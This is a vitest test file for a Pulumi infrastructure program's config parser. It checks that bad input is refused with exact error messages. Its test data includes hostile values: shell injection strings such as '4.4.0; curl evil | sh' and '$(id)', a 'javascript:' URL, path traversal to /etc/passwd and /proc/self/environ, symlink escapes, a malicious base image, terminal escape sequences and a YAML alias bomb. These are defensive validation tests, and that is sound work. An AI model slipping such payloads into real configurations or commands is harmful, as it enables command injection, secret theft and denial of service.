/**
 * Issue #13: every kind of bad input the attack run found accepted or crashing is refused before any resource, with
 * exit-2 material (a ConfigError: one line per problem naming the key path, the value and the fix). Each case is the
 * smallest stack that shows it; messages are asserted exactly.
 */
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { parseStackConfig } from "../../config";
import { ConfigError, renderReceived } from "../../lib/problems";
import { ROOT } from "../support/harness";

const CATALOG = "test/fixtures/mini/images/catalog.yaml";
const DEV: Record<string, unknown> = {
  catalogPath: CATALOG,
  registry: { kind: "ecr", region: "eu-west-1", accountId: "111122223333", repositoryPrefix: "wb" },
  cluster: { context: "arn:aws:eks:eu-west-1:111122223333:cluster/ml-dev" },
  signing: { mode: "cosign-kms", keyAlias: "alias/wb-dev", signerRoleArns: ["arn:aws:iam::111122223333:role/deployer"] },
  gpuPools: [{ name: "h100", product: "NVIDIA-H100-80GB-HBM3", driverVersion: "570.133.20", gpusPerNode: 8 }],
};
const USER = { login: "jdoe", uid: 4000, gid: 4000, project: "thesis", baseVariant: "app-cpu" };

function parse(stack: string, values: Record<string, unknown>, secretKeys: string[] = [], projectRoot = ROOT) {
  const raw = Object.fromEntries(Object.entries(values).map(([k, v]) => [k, typeof v === "string" ? v : JSON.stringify(v)]));
  return parseStackConfig({ project: "workbench-images", stack, projectRoot, values: raw, secretKeys: new Set(secretKeys) });
}

/** The problem lines (without the header) of a refused configuration. */
function lines(stack: string, values: Record<string, unknown>, secretKeys: string[] = [], projectRoot = ROOT): string[] {
  try {
    parse(stack, values, secretKeys, projectRoot);
  } catch (e) {
    expect(ConfigError.is(e)).toBe(true);
    return (e as Error).message.split("\n").slice(1);
  }
  throw new Error("expected a ConfigError");
}

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

/** A throwaway project: Pulumi.yaml's folder with a copy of the mini catalog, so paths can be bent out of it. */
function project(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "wb-badinput-"));
  dirs.push(dir);
  fs.cpSync(path.join(ROOT, "test/fixtures/mini/images"), path.join(dir, "images"), { recursive: true });
  fs.copyFileSync(path.join(ROOT, "images/chart-images.yaml"), path.join(dir, "images/chart-images.yaml"));
  fs.writeFileSync(path.join(dir, ".trivyignore.yaml"), "vulnerabilities: []\n");
  return dir;
}

describe("Kubernetes syntax of node selectors and tolerations (reaches Jobs, DaemonSets and profiles)", () => {
  it("refuses label keys and values and tolerations the API server would reject", () => {
    const pool = {
      name: "h100",
      product: "NVIDIA-H100-80GB-HBM3",
      driverVersion: "570.133.20",
      nodeSelector: { "node pool": "a", "Example.COM/x": "b", ok: "-bad", "nvidia.com/gpu.product": "NVIDIA-A100" },
      tolerations: [{ key: "nvidia.com/gpu", operator: "Exists", value: "present" }, { key: "bad key!", operator: "Equal", value: "x" }],
    };
    expect(lines("dev", { ...DEV, gpuPools: [pool] })).toEqual([
      `  - workbench-images:gpuPools[0].nodeSelector["node pool"]: is not a Kubernetes label key: the name part must be 1-63 letters, digits, '-', '_' or '.', starting and ending with a letter or digit. (got "node pool")`,
      `  - workbench-images:gpuPools[0].nodeSelector["Example.COM/x"]: has a prefix that is not a DNS subdomain (lowercase letters, digits, '-' and '.', at most 253 characters). (got "Example.COM/x")`,
      `  - workbench-images:gpuPools[0].nodeSelector.ok: is not a Kubernetes label value: at most 63 letters, digits, '-', '_' or '.', starting and ending with a letter or digit. (got "-bad")`,
      `  - workbench-images:gpuPools[0].tolerations[0].value: must be absent when operator is "Exists" (Kubernetes rejects it). Remove value, or set operator: Equal. (got "present")`,
      `  - workbench-images:gpuPools[0].tolerations[1].key: is not a Kubernetes label key: the name part must be 1-63 letters, digits, '-', '_' or '.', starting and ending with a letter or digit. (got "bad key!")`,
    ]);
    expect(lines("dev", { ...DEV, gpuPools: [{ ...pool, nodeSelector: { "nvidia.com/gpu.product": "NVIDIA-A100" }, tolerations: [] }] })).toEqual([
      `  - workbench-images:gpuPools[0].nodeSelector["nvidia.com/gpu.product"]: disagrees with product "NVIDIA-H100-80GB-HBM3": Jobs and profiles select GPU Feature Discovery's product label from product. Remove the selector, or fix product. (got "NVIDIA-A100")`,
    ]);
  });
});

describe("per-pool check thresholds (issue #15)", () => {
  it("takes a pool's own thresholds, and refuses an unknown one or a share above 1", () => {
    const pool = { name: "h100", product: "NVIDIA-H100-80GB-HBM3", driverVersion: "570.133.20", gpusPerNode: 8 };
    const cfg = parse("dev", { ...DEV, gpuPools: [{ ...pool, thresholds: { matmulFraction: 0.8, sustainSeconds: 60 } }] });
    expect(cfg.gpuPools[0]!.thresholds).toEqual({ matmulFraction: 0.8, sustainSeconds: 60 });
    expect(lines("dev", { ...DEV, gpuPools: [{ ...pool, thresholds: { matmulFractoin: 0.8, busbwFraction: 1.5 } }] })).toEqual([
      "  - workbench-images:gpuPools[0].thresholds.busbwFraction: must be a number at most 1. (got 1.5)",
      '  - workbench-images:gpuPools[0].thresholds.matmulFractoin: unknown key "matmulFractoin". Did you mean "matmulFraction"? Remove it or correct the spelling. (got 0.8)',
    ]);
  });
});

describe("users", () => {
  it("gives a uid to one login, and keeps ids within what Linux and Kubernetes accept", () => {
    expect(lines("dev", { ...DEV, users: [USER, { ...USER, login: "big", uid: 2147483648, gid: -1 }] })).toEqual([
      "  - workbench-images:users[1].uid: must be at most 2147483647: Kubernetes refuses larger ids in runAsUser. Use the user's own uid. (got 2147483648)",
      "  - workbench-images:users[1].gid: must be 0 or more: use the user's own gid. (got -1)",
    ]);
    expect(lines("dev", { ...DEV, users: [USER, { ...USER, login: "asmith", project: "other" }] })).toEqual([
      "  - workbench-images:users[1].uid: is also users[0]'s uid (jdoe). A uid belongs to one person: use this user's own uid. (got 4000)",
    ]);
  });
});

describe("hub values and secrets", () => {
  it("refuses a chart credential in plain values, a secret path the chart lacks or that we generate", () => {
    const values = { hub: { config: { GitHubOAuthenticator: { client_id: "abc", client_secret: "s3cr3t-value" } }, cookieSecret: "deadbeef" } };
    const secrets = { "hub.config.GitHubOAuthenticator.client_secret": "x", "hubb.cookieSecret": "y", "singleuser.image.name": "z" };
    const out = lines("dev", { ...DEV, jupyterhub: { values }, jupyterhubSecrets: secrets }, ["jupyterhubSecrets"]);
    expect(out.map((l) => l.split(": ")[0])).toEqual([
      "  - workbench-images:jupyterhub.values.hub.config.GitHubOAuthenticator.client_secret",
      "  - workbench-images:jupyterhub.values.hub.cookieSecret",
      "  - workbench-images:jupyterhubSecrets.hubb.cookieSecret",
      "  - workbench-images:jupyterhubSecrets.singleuser.image.name",
    ]);
    expect(out[0]).toBe(
      "  - workbench-images:jupyterhub.values.hub.config.GitHubOAuthenticator.client_secret: is a credential in plain configuration (stored and shown in clear). Remove it here and set it with `pulumi config set --secret --path 'workbench-images:jupyterhubSecrets[\"hub.config.GitHubOAuthenticator.client_secret\"]' …`.",
    );
    expect(out[3]).toBe("  - workbench-images:jupyterhubSecrets.singleuser.image.name: would overwrite singleuser.image, which this program generates. Remove it.");
    expect(out.join("\n")).not.toContain("s3cr3t-value");
  });

  it("keeps a value set with --secret inside jupyterhub secret as a whole, and refuses --secret on keys with nothing secret", () => {
    const cfg = parse("dev", { ...DEV, jupyterhub: { values: { hub: { config: { GitHubOAuthenticator: { client_secret: "s3cr3t" } } } } } }, ["jupyterhub"]);
    expect(cfg.jupyterhubValuesSecret).toBe(true);
    expect(lines("dev", DEV, ["registry"])).toEqual([
      "  - workbench-images:registry: holds a value set with --secret, but nothing under registry is secret and the program would use it as plain text. Set it without --secret; chart secrets go in jupyterhubSecrets, the cluster credentials in kubeconfig.",
    ]);
  });
});

describe("URLs, versions and hosts are what they claim", () => {
  it("refuses a chart repository, source URL, revision or chart version that is something else", () => {
    const out = lines("dev", {
      ...DEV,
      jupyterhub: { chartRepository: "file:///etc/", chartVersion: "4.4.0; curl evil | sh" },
      admission: { kyvernoChartVersion: "$(id)" },
      source: { url: "javascript:alert(1)", revision: "abc\u001b[2Jdef" },
    });
    expect(out).toEqual([
      '  - workbench-images:admission.kyvernoChartVersion: must be a chart version such as "4.4.0" (semver). (got "$(id)")',
      '  - workbench-images:jupyterhub.chartVersion: must be a chart version such as "4.4.0" (semver). (got "4.4.0; curl evil | sh")',
      '  - workbench-images:jupyterhub.chartRepository: must be an https:// Helm repository or an oci:// registry URL without credentials, e.g. "https://hub.jupyter.org/helm-chart/". (got "file:///etc/")',
      '  - workbench-images:source.url: must be the https URL of the source repository, without credentials, e.g. "https://github.com/org/repo". (got "javascript:alert(1)")',
      "  - workbench-images:source.revision: must be a commit id or ref name: letters, digits, '.', '_', '/', '-'. (got \"abc\\u001b[2Jdef\")",
    ]);
  });

  it("refuses a remote Docker engine on the local stack", () => {
    const local = { catalogPath: CATALOG, registry: { kind: "local", dockerHost: "tcp://10.0.0.5:2375" }, cluster: { context: "kind-workbench" }, scan: { scanner: "none" } };
    expect(lines("local", local)).toEqual([
      "  - workbench-images:registry.dockerHost: must be this machine's Docker engine: unix:///path/docker.sock, npipe:///./pipe/docker_engine or tcp://127.0.0.1:<port> (the local registry has no authentication; a remote engine would expose it). (got \"tcp://10.0.0.5:2375\")",
    ]);
  });
});

describe("files outside the project are never read or echoed", () => {
  it("refuses a catalog or ignore file outside the project, by path or through a symlink, without reading it", () => {
    const dir = project();
    fs.symlinkSync("/etc/hostname", path.join(dir, "images", "link.yaml"));
    const base = { ...DEV, catalogPath: "images/catalog.yaml" };
    expect(lines("dev", { ...base, scan: { ignoreFile: "/proc/self/environ" } }, [], dir)).toEqual([
      "  - workbench-images:scan.ignoreFile: is outside the project (after resolving '..' and symlinks). Keep the ignore file in the project, e.g. .trivyignore.yaml; it is never read from elsewhere. (got \"/proc/self/environ\")",
    ]);
    for (const catalogPath of ["/etc/passwd", "../../etc/passwd", "images/link.yaml"]) {
      expect(lines("dev", { ...base, catalogPath }, [], dir)).toEqual([
        `  - workbench-images:catalogPath: is outside the project (after resolving '..' and symlinks). Keep the catalog inside the project, e.g. images/catalog.yaml; it is never read from elsewhere. (got ${JSON.stringify(catalogPath)})`,
      ]);
    }
  });

  it("refuses build contexts and Dockerfiles outside the project, also through a symlink", () => {
    const dir = project();
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), "wb-outside-"));
    dirs.push(outside);
    fs.writeFileSync(path.join(outside, "Dockerfile"), "ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\n");
    fs.symlinkSync(outside, path.join(dir, "images", "escape"));
    const catalog = fs.readFileSync(path.join(dir, "images", "catalog.yaml"), "utf8");
    fs.writeFileSync(
      path.join(dir, "images", "catalog.yaml"),
      catalog.replace("context: app", `context: ${outside}`).replace("context: tools", "context: escape"),
    );
    expect(lines("dev", { ...DEV, catalogPath: "images/catalog.yaml" }, [], dir)).toEqual([
      `  - images/catalog.yaml: variants[0].context (line 5): is outside the project (after resolving '..' and symlinks). Build contexts must be folders of the project. (got ${JSON.stringify(outside)})`,
      '  - images/catalog.yaml: variants[1].context (line 26): is outside the project (after resolving \'..\' and symlinks). Build contexts must be folders of the project. (got "escape")',
    ]);
  });
});

describe("bases", () => {
  it("refuses a Dockerfile that ignores the base argument and a build arg that overrides it", () => {
    const dir = project();
    fs.writeFileSync(path.join(dir, "images", "tools", "Dockerfile"), "ARG BASE_IMAGE\nFROM python:3.12\nUSER 1001\n");
    const catalog = fs.readFileSync(path.join(dir, "images", "catalog.yaml"), "utf8");
    fs.writeFileSync(path.join(dir, "images", "catalog.yaml"), catalog.replace("PIP_INDEX_URL: https://pypi.org/simple", "BASE_IMAGE: docker.io/evil/base:latest"));
    expect(lines("dev", { ...DEV, catalogPath: "images/catalog.yaml" }, [], dir)).toEqual([
      '  - images/catalog.yaml: variants[0].buildArgs.BASE_IMAGE (line 9): would override the pinned base argument BASE_IMAGE. Set bases only under base.ref or extraBases. (got "docker.io/evil/base:latest")',
      '  - images/catalog.yaml: variants[1].base.arg: is BASE_IMAGE, but no FROM in Dockerfile is `FROM ${BASE_IMAGE}`: the image would not be built on the pinned base. Use it in the first stage\'s FROM. (got "BASE_IMAGE")',
    ]);
  });
});

describe("what used to fail late or crash", () => {
  it("refuses a promotion whose source and digest disagree before any resource", () => {
    const d1 = `sha256:${"1".repeat(64)}`;
    const d2 = `sha256:${"2".repeat(64)}`;
    const prod = { ...DEV, mode: "promote", admission: { installKyverno: false }, jupyterhub: { enabled: false } };
    expect(lines("prod", { ...prod, promotion: { images: { "app-cpu": { digest: d1, source: `111122223333.dkr.ecr.eu-west-1.amazonaws.com/wb/app-cpu@${d2}` } } } })).toEqual([
      `  - workbench-images:promotion.images.app-cpu.source: is pinned to ${d2} but digest is ${d1}. The stack file was edited by hand: re-run \`npm run promote\`. (got ${renderReceived(`111122223333.dkr.ecr.eu-west-1.amazonaws.com/wb/app-cpu@${d2}`)})`,
    ]);
  });

  it("reads a YAML alias bomb in the catalog as one problem, in milliseconds", () => {
    const dir = project();
    const bomb = ["a: &a [x, x, x, x, x, x, x, x, x]"];
    for (let i = 1; i < 12; i++) bomb.push(`${"abcdefghijkl"[i]}: &${"abcdefghijkl"[i]} [${Array(9).fill(`*${"abcdefghijkl"[i - 1]}`).join(", ")}]`);
    fs.writeFileSync(path.join(dir, "images", "catalog.yaml"), `${bomb.join("\n")}\nvariants: []\n`);
    const started = Date.now();
    expect(lines("dev", { ...DEV, catalogPath: "images/catalog.yaml" }, [], dir)).toEqual([
      "  - images/catalog.yaml: cannot be read: Excessive alias count indicates a resource exhaustion attack. Write each entry out instead of expanding aliases.",
    ]);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it("explains every unknown key, even one holding a newline or NUL (found by the property test, seed 88217349)", () => {
    expect(lines("dev", { ...DEV, users: [{ ...USER, "a\nb": 1, "\u0000": 0 }] })).toEqual([
      '  - workbench-images:users[0]["a\\nb"]: unknown key "a\\nb". Known keys here: login, hubUsername, uid, gid, project, baseVariant, sudo. Remove it or correct the spelling. (got 1)',
      '  - workbench-images:users[0]["\\u0000"]: unknown key "\\u0000". Known keys here: login, hubUsername, uid, gid, project, baseVariant, sudo. Remove it or correct the spelling. (got 0)',
    ]);
  });

  it("reports stack-file and catalog problems in one run, with control characters escaped", () => {
    const dir = project();
    fs.writeFileSync(path.join(dir, "images", "catalog.yaml"), "variants:\n  - name: Bad Name\n");
    const out = lines("dev", { ...DEV, catalogPath: "images/catalog.yaml", "regis\u001b[31mtry": 1 }, [], dir);
    expect(out[0]).toMatch(/^ {2}- workbench-images:regis\\u001b\[31mtry: is not a setting of this program\. Known settings: .* Remove it or correct the spelling\. \(got "1"\)$/);
    expect(out.slice(1).every((l) => l.startsWith("  - images/catalog.yaml: variants[0]"))).toBe(true);
    expect(out.length).toBeGreaterThan(2);
    expect(out.join("\n")).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  });
});
